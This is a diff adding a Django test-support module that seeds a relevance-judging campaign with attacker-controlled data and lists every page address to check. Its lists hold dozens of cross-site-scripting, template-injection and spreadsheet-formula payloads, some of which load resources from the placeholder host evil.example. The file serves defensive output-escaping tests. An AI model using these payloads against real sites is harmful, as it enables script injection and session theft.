@@ -1,0 +1,278 @@
+"""A campaign whose every field holds an attack, and where its pages are.
+
+What an attack does is seen in three ways: it sets window.__xss, it asks for something at evil.example, or it
+leaves an element or an attribute of its own that holds the word evil.
+"""
+
+from __future__ import annotations
+
+import itertools
+import json
+from collections.abc import Iterator
+from datetime import date
+from io import BytesIO
+from uuid import uuid4
+
+from django.contrib.auth.tokens import default_token_generator
+from django.contrib.contenttypes.models import ContentType
+from django.db.models.functions import Length
+from django.urls import NoReverseMatch, reverse
+from django.utils.http import urlsafe_base64_encode
+
+from accounts.models import User
+from accounts.services import create_token
+from assess.models import Adjudication, AdjudicationEvent, JudgmentEvent, Probe, QueueEntry, ReleaseFile
+from assess.services.assignments import assign
+from assess.services.imports import load_judgments
+from assess.services.machines import Machine, load_machine_labels
+from assess.services.panels import make_panel
+from assess.services.releases import release_qrels
+from pooling.manifest import Plan
+from pooling.models import Campaign, Role
+from pooling.scale import Grade
+from pooling.services.documents import import_documents, reading_of
+from pooling.services.people import add_member, create_campaign, invite
+from pooling.services.pools import freeze_pool
+from pooling.services.runs import Submission, submit_run
+from pooling.services.topics import load_topics
+from tests.support.factory import Factory
+from tests.support.places import URLS
+
+SHORT = [  # fit everywhere but into the names below
+    "<script>__xss=1</script>",
+    '"><script>__xss=1</script>',
+    "</title><script>__xss=1</script>",
+    "</textarea><script>__xss=1</script>",
+    "</script><script>__xss=1</script>",
+    "--><script>__xss=1</script>",
+    "<ScRiPt\n>__xss=1</sCrIpT >",
+    "<script src=//evil.example></script>",
+    "<img src=x onerror=__xss=1>",
+    "<img/src='evil'/onerror=__xss=1>",
+    "<svg onload=__xss=1>",
+    "<svg><animate onbegin=__xss=1 dur=1s>",
+    "<body onload=__xss=1>",
+    "<details open ontoggle=__xss=1>evil",
+    "<input autofocus onfocus=__xss=1>",
+    '" autofocus onfocus="__xss=1" x="',
+    "' onmouseover='__xss=1' x='",
+    "` onmouseover=__xss=1 `",
+    "<a href=javascript:__xss=1>evil</a>",
+    "<a href=' java\tscript:__xss=1'>evil</a>",
+    "<a href=&#106avascript:__xss=1>evil</a>",
+    "<a href=data:text/html,evil>evil</a>",
+    "<iframe src=javascript:__xss=1></iframe>",
+    "<object data=//evil.example></object>",
+    "<embed src=//evil.example>",
+    "<base href=//evil.example>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<style>@import'//evil.example'</style>",
+    "<p style=background:url(//evil.example)>",
+    "<form action=//evil.example><button>evil</button>",
+    "<div hx-get=/evil hx-trigger=load>evil</div>",
+    "<div data-hx-post=/evil data-hx-trigger=load>",
+    "<div hx-on::load=__xss=1>evil</div>",
+    "<math><mtext><img src onerror=__xss=1>",
+    "javascript:__xss=1//evil",
+    "[evil](javascript:__xss=1)",
+    "[evil](java&Tab;script:__xss=1)",
+    "![evil](//evil.example/i.png)",
+    "{{ 7|add:7 }}{% load evil %}${7*7}",
+    "\u202eevil\u2066 \ufeff<script>__xss=1</script>",
+    "\uff1cscript\uff1e__xss=1\uff1c/script\uff1e",
+    "<\u017fcript>__xss=1</\u017fcript>",
+    "\u2028<script>__xss=1</script>\u2029",
+    "&lt;script&gt;__xss=1&lt;/script&gt;",
+    "&amp;lt;img src=x onerror=__xss=1&amp;gt;",
+    "=HYPERLINK(evil)",
+    "+1+evil()",
+    "-2+evil()",
+    "@SUM(evil())",
+    "a;=1+evil()",
+]
+LONG = [
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<svg><use href='data:image/svg+xml,<svg id=evil><script>parent.__xss=1</script></svg>#evil'></svg>",
+    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
+    "<template shadowrootmode=open><script>__xss=1</script></template>",
+    "<math><mtext></form><form><mglyph><style></math><img src=evil onerror=__xss=1>",
+    "<noscript><p title='</noscript><img src=evil onerror=__xss=1>'></noscript>",
+    "<video><source src=//evil.example onerror=__xss=1></video><audio src=//evil.example autoplay>",
+    "<button formaction=javascript:__xss=1 hx-delete=/evil hx-swap=outerHTML>evil</button>",
+    "[evil][e]\n\n[e]: data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==",
+    "<img srcset='https://evil.example/a 1x' src=https://evil.example/b loading=eager>",
+]
+WORDS = [  # for what may hold neither a blank nor a slash: topic numbers, tags, docnos, sign-in names
+    "<script>__xss=1<script>",
+    '"onmouseover="__xss=1"evil',
+    "'onfocus='__xss=1'autofocus='evil",
+    "<img\u200bonerror=__xss=1>evil",
+    "javascript:__xss=1",
+    "&lt;script&gt;evil",
+    "%3Cscript%3E__xss=1",
+    "\u202eevil",
+    "evil?evil=1&x#evil",
+    "{{7|add:7}}{%evil%}",
+    "=1+evil()",
+    "@evil()",
+    "-1+evil()",
+    "+1+evil()",
+]
+ALL = "\n\n".join([*SHORT, *LONG])
+GRADES = tuple(Grade(n, SHORT[n * 2], SHORT[n * 2 + 1], n) for n in range(10))
+
+
+def hostile_campaign(make: Factory) -> Campaign:
+    """carol organises it; alice and bob judge it, under names that attack; sam administers the site."""
+    carol = make.make_user("carol")
+    make.make_administrator("sam")
+    for nth, name in enumerate(SHORT[:6]):
+        create_campaign(carol, name, f"hostile-{nth}", GRADES, 1)
+    campaign = create_campaign(carol, SHORT[1], "hostile", GRADES, 1, description=ALL, guidelines=ALL)
+    bring_in_people(campaign, make)
+    lines = [
+        {"number": w, "title": t, "description": ALL, "narrative": ALL}
+        for w, t in zip(WORDS, SHORT, strict=False)
+    ]
+    load_topics(campaign, as_json_lines(lines), "evil.jsonl")
+    submit_runs(campaign, carol)
+    freeze_pool(campaign, carol, list(campaign.runs.all())[::2], Plan("depth", {"k": 2}))
+    load_documents(campaign)
+    judge_all(campaign, make)
+    load_labels(campaign)
+    release_qrels(campaign, carol)
+    settle_some(campaign)
+    judge_all(campaign, make, worst=9)
+    release_qrels(campaign, carol)  # so that there is a difference to show
+    invite(campaign, Role.PARTICIPANT, SHORT[1], recipient=SHORT[1])
+    first, second = campaign.runs.all()[:2]
+    panel = make_panel(campaign, carol, (first, second), 5, campaign.topics.all(), seed=7)
+    make.make_vote(panel, "bob", panel.topics.all()[0].number, "left", ALL)
+    for attack in SHORT:  # a file's name, and what is said of it
+        make.make_job(campaign, attack, message=attack)
+    for scope, name in zip(["read", "submit", "all"] * 20, SHORT, strict=False):
+        create_token(carol, name, scope)
+    campaign.visibility = Campaign.Visibility.PUBLISHED
+    campaign.save()
+    return campaign
+
+
+def as_json_lines(rows: list[dict[str, str]]) -> bytes:
+    return "".join(json.dumps(row) + "\n" for row in rows).encode()
+
+
+def bring_in_people(campaign: Campaign, make: Factory) -> None:
+    for nth, name in enumerate(SHORT):
+        person = User.objects.create_user(
+            f"{WORDS[nth % len(WORDS)]}{nth}", f"evil{nth}@evil.example", name=name
+        )
+        add_member(campaign, person, [Role.JUDGE, Role.PARTICIPANT, Role.READER][nth % 3], name[:60])
+    for name, shown in (("carol", SHORT[1]), ("alice", SHORT[8]), ("bob", SHORT[15])):
+        User.objects.filter(pk=make.make_user(name).pk).update(name=shown, email="evil@evil.example")
+    for name in ("alice", "bob"):
+        add_member(campaign, make.make_user(name), Role.JUDGE)
+
+
+def submit_runs(campaign: Campaign, user: User) -> None:
+    """A run for every short attack, as its group and its file's name; warnings quote both."""
+    for nth, attack in enumerate(SHORT):
+        tag = f"{WORDS[nth % len(WORDS)]}{nth}"
+        lines = [
+            f"{topic} Q0 {docno} {rank} {-rank if nth % 2 else 1} {tag}\n"
+            for topic in WORDS
+            for rank, docno in enumerate((WORDS[nth % len(WORDS)], "D", f"D{nth}"), 1)
+        ]
+        about = Submission(tag, attack[:60], "", 1, ALL)
+        submit_run(campaign, user, "".join(lines).encode(), f"{attack}.run", about)
+
+
+def load_documents(campaign: Campaign) -> None:
+    docnos = campaign.pools.get().documents.order_by("docno").values_list("docno", flat=True).distinct()
+    rows = [
+        {"docno": docno, "title": title, "text": ALL, "url": f"javascript:__xss=1//{title}"}
+        for docno, title in zip(docnos, itertools.cycle(SHORT), strict=False)
+    ]
+    rows[0]["text"] = ALL * 100  # so long that no screen shows it at once
+    content = as_json_lines(rows)
+    import_documents(campaign, lambda: reading_of(BytesIO(content), "evil.jsonl"))
+
+
+def judge_all(campaign: Campaign, make: Factory, worst: int = 0) -> None:
+    """alice and bob judge each topic's first documents and leave the rest."""
+    judges = ["alice", "bob"]
+    assign([make.make_user(name) for name in judges], campaign.topics.all())
+    for topic in campaign.topics.all():
+        for pooled, judge in itertools.product(topic.pooled.all()[:3], judges):
+            make.make_judgment(
+                campaign, judge, topic.number, pooled.docno, max(worst, (pooled.pk + len(judge)) % 10)
+            )
+    JudgmentEvent.objects.update(comment=ALL)
+
+
+def load_labels(campaign: Campaign) -> None:
+    """Labels that were made elsewhere, by somebody and by a machine."""
+    carol = User.objects.get(username="carol")
+    lines = "".join(f"{topic.number} 0 D 1\n" for topic in campaign.topics.all()).encode()
+    load_judgments(campaign, carol, lines, "evil.qrels", SHORT[2], {})
+    machine = Machine(SHORT[1], SHORT[3], "ab" * 32, date(2026, 5, 4), ALL)
+    load_machine_labels(campaign, carol, lines, "evil.qrels", machine)
+
+
+def settle_some(campaign: Campaign) -> None:
+    """Settle a document of each topic, and plant one that trains the judges."""
+    carol = User.objects.get(username="carol")
+    for topic in campaign.topics.all():
+        settled, probe = topic.pooled.all()[:2]
+        Adjudication.objects.create(pooled=settled, relevance=1, by=carol, why=ALL)
+        AdjudicationEvent.objects.create(uuid=uuid4(), pooled=settled, relevance=1, by=carol, why=ALL)
+        Probe.objects.create(pooled=probe, kind=Probe.Kind.TRAINING, relevance=1, why=ALL)
+
+
+def keys_of(name: str, campaign: Campaign) -> list[int]:
+    """Return the keys that a place asks for: of documents, the longest first."""
+    if "panel" in name:
+        return [*campaign.panels.values_list("pk", flat=True)]
+    if "job" in name:
+        return [*campaign.jobs.values_list("pk", flat=True)[:3]]
+    if name == "assess:judge_labels":
+        return [User.objects.get(username="alice").pk]
+    longest = campaign.documents.order_by(Length("text").desc()).values_list("docno", flat=True)[0]
+    if name in ("assess:judgment_card", "assess:document_part"):
+        queue = QueueEntry.objects.filter(judge__username="alice")
+        found = dict(queue.values_list("pk", "pooled__docno"))
+    else:
+        found = dict(campaign.pools.get(number=1).documents.values_list("pk", "docno"))
+    return sorted(found, key=lambda key: found[key] != longest)[:13]
+
+
+def places(name: str, campaign: Campaign) -> Iterator[str]:
+    """Yield every address of a place, for all that the campaign holds."""
+    carol = User.objects.get(username="carol")
+    numbered = name.startswith("api:") and name != "api:topic"  # pools and releases
+    numbers = [1, 2] if numbered else [*campaign.topics.values_list("number", flat=True), 1]
+    known: dict[str, list[object]] = {
+        "slug": [campaign.slug],
+        "tag": list(campaign.runs.values_list("tag", flat=True)[:: len(SHORT) // len(WORDS)]),
+        "number": [*numbers],
+        "pk": [*keys_of(name, campaign)],
+        "side": ["left", "right"],
+        "rank": [1],
+        "part": [0, 1],
+        "topic": [*campaign.topics.values_list("number", flat=True)],
+        "kind": [*sorted(set(ReleaseFile.objects.values_list("kind", flat=True)))],
+        "token": [invite(campaign, Role.PARTICIPANT, SHORT[1]), default_token_generator.make_token(carol)],
+        "uidb64": [urlsafe_base64_encode(str(carol.pk).encode())],
+        "name": ["nDCG", *(session.name for session in carol.sessions.all())],
+        "id": [carol.pk],
+        "object_id": [campaign.pk, carol.pk],
+        "app_label": ["accounts"],
+        "content_type_id": [ContentType.objects.get_for_model(User).pk],
+        "form": ["csv", "tsv"],
+        "rest": ["<script>__xss=1</script>"],
+    }
+    assert set(URLS[name]) <= set(known), f"tell tests/support/hostile.py what {name} may have in its address"
+    for values in itertools.product(*(known[part] for part in URLS[name])):
+        try:
+            yield reverse(name, kwargs=dict(zip(URLS[name], values, strict=True)))
+        except NoReverseMatch:  # a topic's number where a release's is asked for
+            continue
